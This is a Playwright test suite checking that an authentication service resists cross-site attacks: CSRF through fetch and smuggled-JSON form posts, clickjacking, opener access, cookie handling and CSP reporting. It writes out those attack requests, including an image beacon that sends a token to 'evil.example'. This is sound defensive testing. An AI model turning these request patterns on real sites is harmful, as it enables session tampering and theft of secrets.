import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:https'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type BrowserContext, test as base, chromium, expect, type Page } from '@playwright/test'
import { type Certificate, createCertificate } from '../harness/certificate.ts'
import { chromiumArguments, findChromium } from '../harness/chromium.ts'
import { freePort } from '../harness/postgres-server.ts'
import { StartedProcess } from '../harness/start-process.ts'
import { password } from './latchkey.ts'

/** What a page of another origin is served as: nothing but a place to run scripts in. */
function servePages(port: number, { cert, key }: Certificate): Promise<Server> {
  const page = '<!doctype html><meta charset="utf-8"><title>A page</title><body></body>'
  const server = createServer({ cert, key }, (_request, reply) => {
    reply.setHeader('content-type', 'text/html').end(page)
  })
  return new Promise((resolve) => server.listen(port, () => resolve(server)))
}

type Places = {
  /** Latchkey itself. */
  api: string
  /** A front end that may call it: another site (127.0.0.1 is none of localhost's). */
  frontEnd: string
  /** Two that may not: another site, and another origin of the same site, whose requests carry Strict cookies too. */
  foreign: string
  sibling: string
}

/**
 * A browser that keeps its cookies on disk. Playwright's usual contexts are private windows, which withhold cookies from other sites whatever SameSite
 * says: there nothing would be left to attack.
 */
async function openBrowser(folder: string): Promise<BrowserContext> {
  const executablePath = findChromium('The tests of other origins')
  // Debian's preset withholds them as well.
  mkdirSync(join(folder, 'Default'))
  const profile = { block_third_party_cookies: false, cookie_controls_mode: 0 }
  writeFileSync(join(folder, 'Default', 'Preferences'), JSON.stringify({ profile }))
  return chromium.launchPersistentContext(folder, {
    ...(executablePath ? { executablePath } : {}),
    args: chromiumArguments,
    ignoreHTTPSErrors: true,
  })
}

const test = base.extend<{ context: BrowserContext }, { places: (sameSite: string) => Promise<Places> }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads a fixture's dependencies from this pattern.
  context: async ({}, use) => {
    const folder = mkdtempSync(join(tmpdir(), 'latchkey-profile-'))
    const context = await openBrowser(folder)
    await use(context)
    await context.close()
    rmSync(folder, { recursive: true, force: true })
  },
  places: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads a fixture's dependencies from this pattern.
    async ({}, use) => {
      const folder = mkdtempSync(join(tmpdir(), 'latchkey-origins-'))
      const certificate = createCertificate(folder)
      const pages: Server[] = []
      const runs: StartedProcess[] = []
      const known = new Map<string, Places>()
      await use(async (sameSite) => {
        const there = known.get(sameSite)
        if (there) return there
        const ports = await Promise.all(Array.from({ length: 4 }, freePort))
        const [api, frontEnd, foreign, sibling] = [
          `https://localhost:${ports[0]}`,
          `https://127.0.0.1:${ports[1]}`,
          `https://127.0.0.1:${ports[2]}`,
          `https://localhost:${ports[3]}`,
        ]
        for (const port of ports.slice(1)) pages.push(await servePages(port, certificate))
        const environment = {
          NODE_ENV: 'production',
          DATABASE_URL: 'embedded',
          DATA_DIR: join(folder, sameSite),
          SECRET: 'x7Gh2kLm9QpRs4TvWy1Zb6Nc8Df3Hj5K',
          PUBLIC_URL: api,
          PORT: String(ports[0]),
          TLS_CERT_FILE: certificate.certificateFile,
          TLS_KEY_FILE: certificate.keyFile,
          ALLOWED_ORIGINS: frontEnd,
          COOKIE_SAME_SITE: sameSite,
        }
        runs.push(await new StartedProcess(environment).running())
        const places = { api, frontEnd, foreign, sibling }
        known.set(sameSite, places)
        return places
      })
      for (const run of runs) await run.stop()
      for (const server of pages) {
        server.closeAllConnections()
        server.close()
      }
      rmSync(folder, { recursive: true, force: true })
    },
    { scope: 'worker', timeout: 60_000 },
  ],
})

type Answer = { status: number; body: string } | { failed: string }

/** Calls as a script of the page does, cookies included. */
function call(page: Page, url: string, init: RequestInit = {}): Promise<Answer> {
  return page.evaluate(
    async ([address, options]) => {
      try {
        const reply = await fetch(address, { credentials: 'include', ...options })
        return { status: reply.status, body: reply.type === 'opaque' ? 'opaque' : await reply.text() }
      } catch (error) {
        return { failed: String(error) }
      }
    },
    [url, init] as const,
  )
}

const json = (body: unknown): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
})

let people = 0
const newEmail = () => `person-${process.pid}-${++people}@example.com`

/** Where somebody is signed in, by a page that may do so, and how often their refresh token has been rotated. */
async function signUpFrom(page: Page, origin: string, api: string) {
  await page.goto(origin)
  const answer = await call(page, `${api}/trpc/auth.signUp`, json({ email: newEmail(), password }))
  expect(answer).toMatchObject({ status: 200 })
}

const refreshCookieOf = async (page: Page) =>
  (await page.context().cookies()).find(({ name }) => name === '__Host-refresh')

/** Everything that a page can do without being asked to. */
async function attack(page: Page, api: string): Promise<Answer[]> {
  const answers = [
    await call(page, `${api}/trpc/auth.signOut`, json({})),
    await call(page, `${api}/trpc/session.revokeAll`, { ...json({}), mode: 'no-cors' }),
    await call(page, `${api}/trpc/session.revokeAll`, { method: 'POST', body: '{}' }),
    await call(page, `${api}/trpc/session.list`),
    await call(page, `${api}/trpc/session.list`, { mode: 'no-cors' }),
    await call(page, `${api}/trpc/auth.refresh`, { method: 'POST', mode: 'no-cors', body: new URLSearchParams('a=b') }),
  ]
  // Forms, which ask nobody; into a frame, so that this page stays.
  for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
    const [reply] = await Promise.all([
      page.waitForResponse((response) => response.url().endsWith('session.revokeAll')),
      page.evaluate(
        ([address, type]) => {
          const frame = Object.assign(document.createElement('iframe'), { name: `frame ${type}` })
          const form = document.createElement('form')
          Object.assign(form, { method: 'post', enctype: type, action: address, target: frame.name })
          form.append(Object.assign(document.createElement('input'), { name: '{"a":"', value: '"}' }))
          document.body.append(frame, form)
          form.submit()
        },
        [`${api}/trpc/session.revokeAll`, enctype] as const,
      ),
    ])
    expect([403, 415]).toContain(reply.status())
  }
  return answers
}

for (const sameSite of ['none', 'lax', 'strict'] as const) {
  test(`with SameSite=${sameSite} no page that is not allowed can read or change anything`, async ({
    context,
    places,
  }) => {
    test.setTimeout(90_000)
    const { api, foreign, sibling } = await places(sameSite)
    const own = await context.newPage()
    await signUpFrom(own, api, api)
    const before = await refreshCookieOf(own)
    expect(before).toMatchObject({ httpOnly: true, secure: true, path: '/', domain: 'localhost' })

    for (const origin of [foreign, sibling]) {
      const page = await context.newPage()
      await page.goto(origin)
      // Either the browser keeps the answer from the page, or it is opaque to it.
      for (const answer of await attack(page, api)) expect('failed' in answer || answer.body === 'opaque').toBe(true)
      await page.close()
    }

    expect((await refreshCookieOf(own))?.value).toBe(before?.value)
    expect(await call(own, `${api}/trpc/auth.whoami`)).toMatchObject({ status: 200 })
  })
}

test('a front end of another site that is allowed signs up, reads, refreshes and signs out', async ({
  context,
  places,
}) => {
  const { api, frontEnd } = await places('none')
  const page = await context.newPage()
  await signUpFrom(page, frontEnd, api)

  expect(await call(page, `${api}/trpc/session.list`)).toMatchObject({ status: 200 })
  await context.clearCookies({ name: '__Host-access' })
  expect(await call(page, `${api}/trpc/auth.whoami`)).toMatchObject({ status: 200 })
  expect(await call(page, `${api}/trpc/auth.signOut`, json({}))).toEqual({
    status: 200,
    body: '{"result":{"data":{"signedOut":true}}}',
  })
  expect(await refreshCookieOf(page)).toBeUndefined()
  expect(await call(page, `${api}/trpc/auth.whoami`)).toMatchObject({ status: 401 })
})

test('nobody can frame the dashboard, or reach into a window of it', async ({ context, places }) => {
  const { api, foreign } = await places('strict')
  const page = await context.newPage()
  await page.goto(foreign)
  const stopped = page.waitForEvent('console', (message) => message.text().includes("frame-ancestors 'none'"))
  await page.evaluate((address) => {
    const frame = document.createElement('iframe')
    frame.src = address
    document.body.append(frame)
  }, api)
  await stopped

  const [popup] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((address) => {
      Object.assign(window, { opened: window.open(address) })
    }, api),
  ])
  await popup.waitForLoadState()
  expect(await popup.evaluate(() => window.opener)).toBeNull()
  expect(await page.evaluate(() => (window as unknown as { opened: Window }).opened.closed)).toBe(true)
})

test('a session signed in over https is bound to it: the dashboard works, its cookies are __Host-, and signing out takes the cache along', async ({
  context,
  places,
}) => {
  const { api } = await places('strict')
  const page = await context.newPage()
  const email = newEmail()
  await page.goto(api)
  expect(await call(page, `${api}/trpc/auth.signUp`, json({ email, password }))).toMatchObject({ status: 200 })
  await page.goto(api)
  await expect(page.getByRole('heading', { level: 1, name: 'Your devices' })).toBeVisible()
  const names = (await context.cookies()).map(({ name }) => name)
  expect(names).toEqual(expect.arrayContaining(['__Host-access', '__Host-refresh']))
  expect(names.every((name) => name.startsWith('__Host-'))).toBe(true)
  const stored = await page.evaluate(() => JSON.stringify([localStorage, sessionStorage, document.cookie]))
  expect(stored).not.toContain(email)
  expect(stored).not.toMatch(/eyJ|__Host-/)

  const [reply] = await Promise.all([
    page.waitForResponse((response) => response.url().includes('auth.signOut')),
    call(page, `${api}/trpc/auth.signOut`, json({})),
  ])
  expect(await reply.headerValue('clear-site-data')).toBe('"cache"')
  expect((await context.cookies()).map(({ name }) => name)).not.toContain('__Host-refresh')
  await page.goBack()
  await expect(page.getByRole('heading', { level: 1, name: 'Your devices' })).toBeHidden()
})

test('what the policy stops is reported, and logged', async ({ context }) => {
  const folder = mkdtempSync(join(tmpdir(), 'latchkey-reports-'))
  const port = await freePort()
  // A server of its own, whose log can be read.
  const server = await new StartedProcess({ DATA_DIR: folder, PORT: String(port) }).running()
  const page = await context.newPage()
  await page.goto(`http://localhost:${port}`)
  await page.evaluate(() => {
    const image = document.createElement('img')
    image.src = 'https://evil.example/pixel.png?token=canary'
    document.body.append(image)
  })

  await expect.poll(() => server.output, { timeout: 20_000 }).toContain('csp_violation')
  const line = server.output.split('\n').find((text) => text.includes('csp_violation')) ?? ''
  expect(JSON.parse(line)).toMatchObject({ directive: 'img-src', blocked: 'https://evil.example' })
  expect(server.output).not.toContain('canary')
  await server.stop()
  rmSync(folder, { recursive: true, force: true })
})
